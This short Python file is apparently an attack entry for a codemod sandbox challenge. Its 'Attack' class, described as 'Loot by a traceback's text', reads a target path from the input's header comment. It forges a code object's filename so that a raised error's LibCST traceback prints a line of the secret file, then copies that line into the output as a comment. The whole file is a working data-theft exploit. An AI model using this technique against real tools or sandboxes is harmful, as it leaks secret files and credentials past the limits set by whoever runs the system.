"""Raise from code that says its text is the secret file: LibCST tells the error with its line of text."""

import ast

import libcst as cst
from libcst.codemod import CodemodContext, VisitorBasedCodemodCommand, transform_module


def raiser(path):
    def transform_module_impl(self, tree):
        raise ValueError

    code = transform_module_impl.__code__
    transform_module_impl.__code__ = code.replace(co_filename=path, co_firstlineno=0)
    return type("Raiser", (VisitorBasedCodemodCommand,), {"transform_module_impl": transform_module_impl})


def read(path):
    told = transform_module(raiser(path)(CodemodContext()), "pass\n").traceback_str
    return told.split(path)[1].split("\n")[1].strip()


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Loot by a traceback's text."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        loot = read(target["secret_file"])
        return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment(f"# {loot}"))])
